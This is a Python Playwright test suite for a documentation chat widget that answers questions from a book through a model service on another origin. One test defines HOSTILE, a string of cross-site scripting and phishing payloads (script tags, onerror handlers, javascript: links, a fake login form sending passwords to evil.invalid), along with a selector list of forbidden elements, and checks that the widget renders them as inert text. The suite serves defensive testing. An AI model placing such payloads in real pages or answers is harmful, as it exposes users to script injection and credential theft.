"""The widget and the application it was made for: the page on one origin, the real service on another."""

import asyncio
import re
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from rag.settings import Settings
from tests.support.books import write_book
from tests.support.openai_script import Say
from tests.support.openai_server import OpenAIServer
from tests.support.running import Running, running_app
from tests.widget.lighthouse_site import NOTE, LighthouseSite
from tests.widget.reader import Reader

QUESTION = "How often must the wick be trimmed?"
PATIENCE = 30_000  # milliseconds: the answers are real ones
Start = Callable[..., Running]

HOSTILE = """Trim it <script>window.hacked = 1</script> every four hours [1].

<img src="x" onerror="window.hacked = 2"> ![pixel](http://tracker.invalid/p.png)

<form action="http://evil.invalid"><input name="password"><button>Log in</button></form>

[click](javascript:window.hacked=3) [data](data:text/html,x) <a href="javascript:window.hacked=4">raw</a>

<style>* { display: none !important }</style><iframe src="http://evil.invalid"></iframe>
"""


@pytest.fixture
def book() -> Iterator[LighthouseSite]:
    with LighthouseSite() as book:
        yield book


@pytest.fixture
def settings(book: LighthouseSite, tmp_path: Path) -> dict[str, Any]:
    return {
        "content_dir": write_book(tmp_path / "content"),
        "data_dir": tmp_path / "data",
        "admin_token": "keeper",
        "rate_limit": "10000/minute",
        "book_url": f"{book.url}/",
        "allowed_origins": [book.url],
    }


@pytest.fixture
def start(book: LighthouseSite, settings: dict[str, Any]) -> Iterator[Start]:
    """Starts the application for the book's site; its pages load the widget from there."""
    with ExitStack() as stack:

        def begin(**changes: Any) -> Running:
            app = stack.enter_context(running_app(Settings(**(settings | changes))))
            app.wait_for_index()
            book.chat_url = app.url
            return app

        yield begin


@pytest.fixture
def with_model(openai_server: OpenAIServer) -> dict[str, Any]:
    return {"openai_base_url": openai_server.base_url, "openai_api_key": openai_server.key}


@pytest.fixture
def reader(page: Page, book: LighthouseSite) -> Iterator[Reader]:
    page.context.set_default_timeout(PATIENCE)
    expect.set_options(timeout=PATIENCE)
    reader = Reader(page, book.url)
    yield reader
    expect.set_options(timeout=5000)
    assert reader.complaints == []


def figure(app: Running, line: str) -> float:
    """One figure of /metrics; 0 for what has not happened."""
    text = httpx.get(f"{app.url}/metrics").text
    found = re.search(rf"^{re.escape(line)} (\S+)$", text, re.MULTILINE)
    return float(found[1]) if found else 0.0


def until(look: Callable[[], object], wanted: object) -> None:
    deadline = time.monotonic() + 20
    while (seen := look()) != wanted:
        assert time.monotonic() < deadline, f"{seen} is not {wanted}"
        time.sleep(0.05)


def test_an_answer_of_the_book_leads_to_its_heading(start: Start, reader: Reader) -> None:
    app = start()
    reader.visit("/docs/sea/fog")
    reader.ask(QUESTION)
    reader.wait_for_answer()
    expect(reader.answer).to_contain_text("every four hours")
    expect(reader.exchanges.last.locator(".source .title").first).to_have_text("Trimming the wick")
    assert reader.asked == [
        {"question": QUESTION, "page": {"url": f"{reader.site_url}/docs/sea/fog", "title": "Fog"}},
    ]
    reader.answer.locator("a.cite").first.click()
    reader.page.wait_for_url("**/docs/lamp/oil#trimming-the-wick")
    expect(reader.page.locator("#trimming-the-wick")).to_be_in_viewport()
    expect(reader.page.locator("#note")).not_to_be_in_viewport()
    expect(reader.answer).to_contain_text("every four hours")
    assert figure(app, 'questions_total{outcome="answered",surface="api"}') == 1
    assert {url.split("/")[2] for url in reader.requested} == {app.url.split("/")[2], reader.site_url.split("/")[2]}


def test_what_the_book_does_not_say_is_said(start: Start, reader: Reader) -> None:
    app = start()
    reader.visit("/docs/")
    reader.ask("Who won the football world cup in 1998?")
    reader.wait_for_answer()
    expect(reader.answer.locator("a.cite")).to_have_count(0)
    assert figure(app, 'questions_total{outcome="not_found",surface="api"}') == 1


def test_a_models_answer_is_read_while_it_is_written(
    start: Start, reader: Reader, openai_server: OpenAIServer, with_model: dict[str, Any]
) -> None:
    start(**with_model)
    openai_server.limit(pieces_per_second=4)
    openai_server.next(
        Say(("Trim ", "it ", "every ", "**four", "** hours ", "[", "1", "]. ", "So ", "says ", "the ", "book.")),
        route="chat",
    )
    reader.visit("/docs/")
    reader.ask(QUESTION)
    expect(reader.answer).to_contain_text("Trim it")
    expect(reader.exchanges.last).to_have_attribute("data-running", "")
    expect(reader.answer).not_to_contain_text("book.")
    reader.wait_for_answer()
    expect(reader.answer).to_contain_text("So says the book.")
    expect(reader.answer.locator("strong")).to_have_text("four")
    reader.answer.locator("a.cite").click()
    reader.page.wait_for_url("**/docs/lamp/oil#trimming-the-wick")


def test_stopping_ends_the_work_of_the_server(
    start: Start, reader: Reader, openai_server: OpenAIServer, with_model: dict[str, Any]
) -> None:
    app = start(**with_model)
    openai_server.limit(pieces_per_second=4)
    openai_server.next(Say(("Trim it ", *["and trim it "] * 200)), route="chat")
    reader.visit("/docs/")
    reader.ask(QUESTION)
    expect(reader.answer).to_contain_text("Trim it")
    reader.button("Stop").click()
    expect(reader.exchanges.last).to_contain_text("Stopped.")
    until(lambda: openai_server.requests("chat")[0].disconnected, True)
    until(lambda: figure(app, 'questions_total{outcome="cancelled",surface="api"}'), 1)


def test_what_is_selected_reaches_the_model_beside_the_question(
    start: Start, reader: Reader, openai_server: OpenAIServer, with_model: dict[str, Any]
) -> None:
    start(**with_model)
    reader.visit("/docs/lamp/oil")
    reader.select("#note")
    reader.button("Ask about this").click()
    reader.ask(QUESTION)
    reader.wait_for_answer()
    assert (reader.asked[0]["question"], reader.asked[0]["selection"].strip()) == (QUESTION, NOTE)
    assert NOTE in str(openai_server.requests("chat")[-1].body["messages"])


def test_a_conversation_goes_on_after_a_reload(
    start: Start, reader: Reader, openai_server: OpenAIServer, with_model: dict[str, Any]
) -> None:
    start(**with_model)
    reader.visit("/docs/")
    reader.ask(QUESTION)
    reader.wait_for_answer()
    before = len(openai_server.requests("chat"))
    reader.page.reload()
    expect(reader.exchanges).to_have_count(1)
    expect(reader.answer).to_contain_text("every four hours")
    reader.ask("And what happens when it is done late?")
    expect(reader.exchanges).to_have_count(2)
    reader.wait_for_answer()
    assert len(openai_server.requests("chat")) > before
    assert QUESTION in str([request.body["messages"] for request in openai_server.requests("chat")[before:]])


def test_too_many_questions_are_counted_down(start: Start, reader: Reader) -> None:
    app = start(rate_limit="1/8seconds")
    reader.visit("/docs/")
    reader.open()
    httpx.post(f"{app.url}/chat", json={"question": QUESTION, "stream": False}, timeout=30).raise_for_status()
    reader.ask(QUESTION)
    expect(reader.problem).to_contain_text("Too many questions in a short time.")
    expect(reader.retry).to_be_disabled()
    seconds = re.compile(r"Try again in (\d+) s")
    first = seconds.fullmatch(reader.retry.inner_text())
    assert first
    expect(reader.retry).to_have_text(f"Try again in {int(first[1]) - 1} s")
    expect(reader.retry).to_have_text("Try again")
    reader.retry.click()
    reader.wait_for_answer()
    expect(reader.answer).to_contain_text("every four hours")
    assert len(reader.asked) == 2
    assert figure(app, 'rate_limited_total{surface="api"}') == 1


def test_a_page_of_another_origin_is_refused_and_says_so(start: Start, reader: Reader) -> None:
    app = start()
    reader.page.goto(reader.site_url.replace("127.0.0.1", "localhost") + "/docs/")
    reader.page.wait_for_function("window.AskTheBook")
    reader.ask(QUESTION)
    expect(reader.problem).to_contain_text("cannot be reached from this page")
    assert "questions_total{" not in httpx.get(f"{app.url}/metrics").text


def test_a_server_that_is_gone_and_back(book: LighthouseSite, settings: dict[str, Any], reader: Reader) -> None:
    with running_app(Settings(**settings)) as app:
        app.wait_for_index()
        book.chat_url = app.url
        port = int(app.url.rpartition(":")[2])
        reader.visit("/docs/")
    reader.ask(QUESTION)
    expect(reader.problem).to_contain_text("cannot be reached")
    with running_app(Settings(**settings), port=port) as app:
        app.wait_for_index()
        reader.wait_for_answer()
        expect(reader.answer).to_contain_text("every four hours")


def test_hostile_answers_stay_text(
    start: Start, reader: Reader, openai_server: OpenAIServer, with_model: dict[str, Any]
) -> None:
    start(**with_model)
    openai_server.next(Say(HOSTILE), route="chat")
    reader.visit("/docs/")
    reader.ask(QUESTION)
    reader.wait_for_answer()
    expect(reader.answer).to_contain_text("<script>window.hacked = 1</script>")
    expect(reader.answer).to_contain_text("Log in")
    expect(reader.answer.locator("a.cite")).to_have_count(1)
    forbidden = "script, img, form, input, iframe, style, object, embed, a[href^='javascript' i], a[href^='data' i]"
    expect(reader.exchanges.last.locator(forbidden)).to_have_count(0)
    assert reader.page.evaluate("window.hacked") is None
    assert not [url for url in reader.requested if "invalid" in url]


def test_a_rating_is_counted_and_can_be_changed(start: Start, reader: Reader) -> None:
    app = start()
    reader.visit("/docs/")
    reader.ask(QUESTION)
    reader.wait_for_answer()
    for name, thumbs in (("Helpful", (1, 0)), ("Not helpful", (0, 1))):
        reader.button(name).click()
        until(lambda: _thumbs(app), thumbs)
    assert figure(app, 'ratings_total{rating="up",surface="api"}') == 1
    assert figure(app, 'ratings_total{rating="down",surface="api"}') == 1
    assert figure(app, 'ratings_total{rating="unknown",surface="api"}') == 0


def _thumbs(app: Running) -> tuple[int, int]:
    with ThreadPoolExecutor(1) as elsewhere:  # the browser's loop runs here
        [today] = elsewhere.submit(asyncio.run, app.services.usage.days(1)).result()
    return today.liked, today.disliked
